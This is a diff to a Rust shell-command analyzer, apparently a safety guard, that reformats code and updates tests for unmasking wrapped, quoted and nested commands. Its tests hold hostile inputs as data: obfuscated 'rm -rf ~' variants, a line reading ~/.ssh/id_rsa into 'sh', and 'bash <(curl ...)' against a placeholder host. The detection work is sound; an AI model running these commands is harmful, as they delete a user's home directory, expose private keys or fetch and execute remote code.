@@ -237,7 +237,10 @@ impl Walker<'_> {
             let argv: Vec<Arg> = part
                 .split_whitespace()
                 .map(|w| {
-                    let t: String = w.chars().filter(|c| !matches!(c, '\'' | '"' | '\\')).collect();
+                    let t: String = w
+                        .chars()
+                        .filter(|c| !matches!(c, '\'' | '"' | '\\'))
+                        .collect();
                     Arg::literal(t)
                 })
                 .collect();
@@ -500,14 +503,20 @@ impl Walker<'_> {
             for (k, v) in &cmd.assigns {
                 self.vars.insert(k.clone(), v.clone());
             }
-        } else if matches!(cmd.program(), "export" | "declare" | "typeset" | "local" | "readonly") {
-            for a in cmd.args() {
-                if let Some((k, v)) = a.text.split_once('=')
-                    && !k.starts_with('-')
-                {
-                    self.vars.insert(k.to_string(), v.to_string());
-                    cmd.assigns.push((k.to_string(), v.to_string()));
-                }
+        } else if matches!(
+            cmd.program(),
+            "export" | "declare" | "typeset" | "local" | "readonly"
+        ) {
+            let exported: Vec<(String, String)> = cmd
+                .args()
+                .iter()
+                .filter_map(|a| a.text.split_once('='))
+                .filter(|(k, _)| !k.starts_with('-'))
+                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .collect();
+            for (k, v) in exported {
+                self.vars.insert(k.clone(), v.clone());
+                cmd.assigns.push((k, v));
             }
         }
         self.remember_written(&cmd);
@@ -567,10 +576,8 @@ impl Walker<'_> {
         if let Some(rest) = unwrap_wrapper(&program, &args) {
             match rest {
                 Unwrapped::Argv(inner) if !inner.is_empty() => {
-                    let mut argv: Vec<Arg> = inner
-                        .iter()
-                        .map(|i| cmd.argv[i + 1].clone())
-                        .collect();
+                    let mut argv: Vec<Arg> =
+                        inner.iter().map(|i| cmd.argv[i + 1].clone()).collect();
                     if program == "xargs" {
                         argv.extend(self.upstream_words(&cmd));
                     }
@@ -579,7 +586,11 @@ impl Walker<'_> {
                     } else {
                         Vec::new()
                     };
-                    let via = if program == "xargs" { Via::Find } else { Via::Wrapper };
+                    let via = if program == "xargs" {
+                        Via::Find
+                    } else {
+                        Via::Wrapper
+                    };
                     if let Some(i) = self.push(Cmd {
                         argv,
                         assigns,
@@ -632,7 +643,12 @@ impl Walker<'_> {
                     up.args()
                         .iter()
                         .filter(|a| !a.text.starts_with('-'))
-                        .flat_map(|a| a.text.split_whitespace().map(Arg::literal).collect::<Vec<_>>()),
+                        .flat_map(|a| {
+                            a.text
+                                .split_whitespace()
+                                .map(Arg::literal)
+                                .collect::<Vec<_>>()
+                        }),
                 );
             }
         }
@@ -647,7 +663,10 @@ impl Walker<'_> {
                 i += 1;
                 break;
             }
-            if let Some(flags) = a.strip_prefix('-').filter(|f| !f.is_empty() && !f.starts_with('-')) {
+            if let Some(flags) = a
+                .strip_prefix('-')
+                .filter(|f| !f.is_empty() && !f.starts_with('-'))
+            {
                 if flags.contains('c') {
                     if let Some(text) = args.get(i + 1) {
                         self.script(text, depth, Via::Shell);
@@ -704,9 +723,23 @@ impl Walker<'_> {
         };
         // A name test narrows what is deleted to matching entries below the start:
         // `find . -name '*.pyc' -delete` removes files, not the tree.
-        let narrowed = args
-            .iter()
-            .any(|a| matches!(a.as_str(), "-name" | "-iname" | "-path" | "-ipath" | "-regex" | "-newer" | "-mtime" | "-mmin" | "-size" | "-empty" | "-type" | "-user"));
+        let narrowed = args.iter().any(|a| {
+            matches!(
+                a.as_str(),
+                "-name"
+                    | "-iname"
+                    | "-path"
+                    | "-ipath"
+                    | "-regex"
+                    | "-newer"
+                    | "-mtime"
+                    | "-mmin"
+                    | "-size"
+                    | "-empty"
+                    | "-type"
+                    | "-user"
+            )
+        });
         let mut i = 0;
         while i < args.len() {
             let a = args[i].as_str();
@@ -733,10 +766,8 @@ impl Walker<'_> {
                         } else {
                             s.clone()
                         };
-                        let argv: Vec<String> = inner
-                            .iter()
-                            .map(|w| w.replace("{}", &entry))
-                            .collect();
+                        let argv: Vec<String> =
+                            inner.iter().map(|w| w.replace("{}", &entry)).collect();
                         if let Some(idx) = self.synthetic(cmd, argv, Via::Find) {
                             self.expand(idx, depth);
                         }
@@ -768,7 +799,10 @@ impl Walker<'_> {
         });
         let source = match source {
             Some(s) => s,
-            None => match (&self.out.commands[index].here, args.iter().any(|a| !a.starts_with('-'))) {
+            None => match (
+                &self.out.commands[index].here,
+                args.iter().any(|a| !a.starts_with('-')),
+            ) {
                 (Some(h), false) => h.clone(),
                 _ => return,
             },
@@ -875,9 +909,8 @@ impl Walker<'_> {
         };
         let name = match parameter {
             Parameter::Named(n) => n.as_str(),
-            Parameter::NamedWithIndex { name, .. } | Parameter::NamedWithAllIndices { name, .. } => {
-                name.as_str()
-            }
+            Parameter::NamedWithIndex { name, .. }
+            | Parameter::NamedWithAllIndices { name, .. } => name.as_str(),
             _ => {
                 arg.text.push_str("$?");
                 arg.dynamic = true;
@@ -981,7 +1014,17 @@ enum Unwrapped {
 fn is_shell(program: &str) -> bool {
     matches!(
         program,
-        "sh" | "bash" | "zsh" | "dash" | "ksh" | "mksh" | "ash" | "fish" | "yash" | "posh" | "tcsh" | "csh"
+        "sh" | "bash"
+            | "zsh"
+            | "dash"
+            | "ksh"
+            | "mksh"
+            | "ash"
+            | "fish"
+            | "yash"
+            | "posh"
+            | "tcsh"
+            | "csh"
     )
 }
 
@@ -990,21 +1033,26 @@ pub(crate) fn runs_stdin(cmd: &Cmd) -> bool {
     let p = cmd.program();
     if is_shell(p) {
         let args = cmd.args();
-        return !args.iter().any(|a| a.text.contains('c') && a.text.starts_with('-') && !a.text.starts_with("--"))
+        return !args
+            .iter()
+            .any(|a| a.text.contains('c') && a.text.starts_with('-') && !a.text.starts_with("--"))
             && args
                 .iter()
                 .find(|a| !a.text.starts_with('-'))
                 .is_none_or(|a| a.text == "-" || a.text == "/dev/stdin");
     }
     if matches!(p, "source" | ".") {
-        return cmd
-            .args()
-            .first()
-            .is_some_and(|a| a.text == "/dev/stdin" || a.text == "-" || a.text.starts_with("/dev/fd/"));
+        return cmd.args().first().is_some_and(|a| {
+            a.text == "/dev/stdin" || a.text == "-" || a.text.starts_with("/dev/fd/")
+        });
     }
     if code::interpreter(p).is_some() {
         let args = cmd.args();
-        return code::inline_source(code::interpreter(p).unwrap_or(code::Lang::Python), &args.iter().map(|a| a.text.clone()).collect::<Vec<_>>()).is_none()
+        return code::inline_source(
+            code::interpreter(p).unwrap_or(code::Lang::Python),
+            &args.iter().map(|a| a.text.clone()).collect::<Vec<_>>(),
+        )
+        .is_none()
             && args
                 .iter()
                 .find(|a| !a.text.starts_with('-'))
@@ -1024,12 +1072,31 @@ fn unwrap_wrapper(program: &str, args: &[String]) -> Option<Unwrapped> {
         "ionice" => &["-c", "-n", "-p", "--class", "--classdata"],
         "timeout" => &["-s", "--signal", "-k", "--kill-after"],
         "stdbuf" => &["-i", "-o", "-e"],
-        "xargs" => &["-I", "-i", "-n", "-P", "-d", "-E", "-e", "-L", "-l", "-s", "-a", "--arg-file", "--delimiter", "--max-args", "--max-procs", "--replace"],
+        "xargs" => &[
+            "-I",
+            "-i",
+            "-n",
+            "-P",
+            "-d",
+            "-E",
+            "-e",
+            "-L",
+            "-l",
+            "-s",
+            "-a",
+            "--arg-file",
+            "--delimiter",
+            "--max-args",
+            "--max-procs",
+            "--replace",
+        ],
         "flock" => &["-w", "-E", "--timeout", "--conflict-exit-code"],
         "chroot" | "nohup" | "time" | "command" | "builtin" | "setsid" | "unbuffer" | "busybox"
-        | "caffeinate" | "proxychains" | "proxychains4" | "torsocks" | "tsocks" | "exec" | "strace"
-        | "ltrace" | "nsenter" | "unshare" | "systemd-run" | "firejail" | "catchsegv" | "then"
-        | "do" | "chrt" | "taskset" | "sg" | "runuser" => &["-a", "-e", "-o", "-p", "-u", "-g", "--user", "--uid", "--gid"],
+        | "caffeinate" | "proxychains" | "proxychains4" | "torsocks" | "tsocks" | "exec"
+        | "strace" | "ltrace" | "nsenter" | "unshare" | "systemd-run" | "firejail"
+        | "catchsegv" | "then" | "do" | "chrt" | "taskset" | "sg" | "runuser" => &[
+            "-a", "-e", "-o", "-p", "-u", "-g", "--user", "--uid", "--gid",
+        ],
         "watch" => &["-n", "--interval", "-d"],
         "su" => &["-s", "--shell", "-g", "-G", "-w"],
         "script" => &[],
@@ -1048,7 +1115,10 @@ fn unwrap_wrapper(program: &str, args: &[String]) -> Option<Unwrapped> {
     let mut i = 0;
     // `timeout DURATION`, `chroot DIR`, `flock FILE`, `taskset MASK`, `chrt PRIO`
     // take one positional before the command.
-    let positional_first = matches!(program, "timeout" | "chroot" | "flock" | "taskset" | "chrt" | "sg");
+    let positional_first = matches!(
+        program,
+        "timeout" | "chroot" | "flock" | "taskset" | "chrt" | "sg"
+    );
     let mut took_positional = false;
     while i < args.len() {
         let a = args[i].as_str();
@@ -1139,7 +1209,12 @@ fn ansi_c(raw: &str) -> String {
 }
 
 /// Reads up to `max` more digits of `radix` onto `value`: one escape's byte.
-fn digits(chars: &mut std::iter::Peekable<std::str::Chars<'_>>, radix: u32, max: usize, value: u32) -> u8 {
+fn digits(
+    chars: &mut std::iter::Peekable<std::str::Chars<'_>>,
+    radix: u32,
+    max: usize,
+    value: u32,
+) -> u8 {
     let mut v = value;
     for _ in 0..max {
         match chars.peek().and_then(|c| c.to_digit(radix)) {
@@ -1158,24 +1233,53 @@ mod tests {
     use super::*;
 
     fn paths() -> Paths {
-        Paths::new("/home/dev", "/home/dev/proj", "/home/dev/.copse", &["/home/dev/proj".into()])
+        Paths::new(
+            "/home/dev",
+            "/home/dev/proj",
+            "/home/dev/.copse",
+            &["/home/dev/proj".into()],
+        )
     }
 
     fn lines(text: &str) -> Vec<String> {
-        analyze(text, &paths()).commands.iter().map(Cmd::line).collect()
+        analyze(text, &paths())
+            .commands
+            .iter()
+            .map(Cmd::line)
+            .collect()
     }
 
     #[test]
     fn quoting_tricks_resolve_to_the_program() {
-        for text in [r"r''m -rf ~", r#""r"m -rf ~"#, r"\rm -rf ~", r"$'\x72\x6d' -rf ~", "/bin/rm -rf ~"] {
-            assert!(lines(text).contains(&"rm -rf ~".to_string()), "{text}: {:?}", lines(text));
+        for text in [
+            r"r''m -rf ~",
+            r#""r"m -rf ~"#,
+            r"\rm -rf ~",
+            r"$'\x72\x6d' -rf ~",
+            "/bin/rm -rf ~",
+        ] {
+            assert!(
+                lines(text).contains(&"rm -rf ~".to_string()),
+                "{text}: {:?}",
+                lines(text)
+            );
         }
     }
 
     #[test]
     fn home_in_every_spelling() {
-        for text in ["rm -rf $HOME", "rm -rf ${HOME}", r#"rm -rf "$(echo ~)""#, "D=~; rm -rf \"$D\"", "rm -rf ${HOME:-/x}"] {
-            assert!(lines(text).contains(&"rm -rf ~".to_string()), "{text}: {:?}", lines(text));
+        for text in [
+            "rm -rf $HOME",
+            "rm -rf ${HOME}",
+            r#"rm -rf "$(echo ~)""#,
+            "D=~; rm -rf \"$D\"",
+            "rm -rf ${HOME:-/x}",
+        ] {
+            assert!(
+                lines(text).contains(&"rm -rf ~".to_string()),
+                "{text}: {:?}",
+                lines(text)
+            );
         }
     }
 
@@ -1193,7 +1297,11 @@ mod tests {
             "bash <<EOF\nrm -rf ~\nEOF",
             "echo 'rm -rf ~' > /tmp/x.sh && sh /tmp/x.sh",
         ] {
-            assert!(lines(text).iter().any(|l| l == "rm -rf ~"), "{text}: {:?}", lines(text));
+            assert!(
+                lines(text).iter().any(|l| l == "rm -rf ~"),
+                "{text}: {:?}",
+                lines(text)
+            );
         }
     }
 
@@ -1202,7 +1310,10 @@ mod tests {
         assert!(lines("find ~ -delete").contains(&"rm -r ~".to_string()));
         assert!(lines("find ~ -exec rm -rf {} +").contains(&"rm -rf ~".to_string()));
         let narrowed = lines("find . -name '*.pyc' -delete");
-        assert!(narrowed.contains(&format!("rm -r ./{FIND_ENTRY}")), "{narrowed:?}");
+        assert!(
+            narrowed.contains(&format!("rm -r ./{FIND_ENTRY}")),
+            "{narrowed:?}"
+        );
     }
 
     #[test]
@@ -1210,7 +1321,10 @@ mod tests {
         let l = lines("echo $(cat ~/.ssh/id_rsa) | base64 -d | sh");
         assert!(l.contains(&"cat ~/.ssh/id_rsa".to_string()), "{l:?}");
         let l = lines("bash <(curl -s https://x.example/i.sh)");
-        assert!(l.contains(&"curl -s https://x.example/i.sh".to_string()), "{l:?}");
+        assert!(
+            l.contains(&"curl -s https://x.example/i.sh".to_string()),
+            "{l:?}"
+        );
     }
 
     #[test]
@@ -1222,10 +1336,7 @@ mod tests {
 
     #[test]
     fn deep_nesting_is_bounded() {
-        let mut text = "rm -rf ~".to_string();
-        for _ in 0..20 {
-            text = format!("sh -c {}", crate::notice::shell_quote(&text));
-        }
+        let text = format!("{}rm -rf ~", "eval ".repeat(20));
         let a = analyze(&text, &paths());
         assert!(a.truncated);
     }
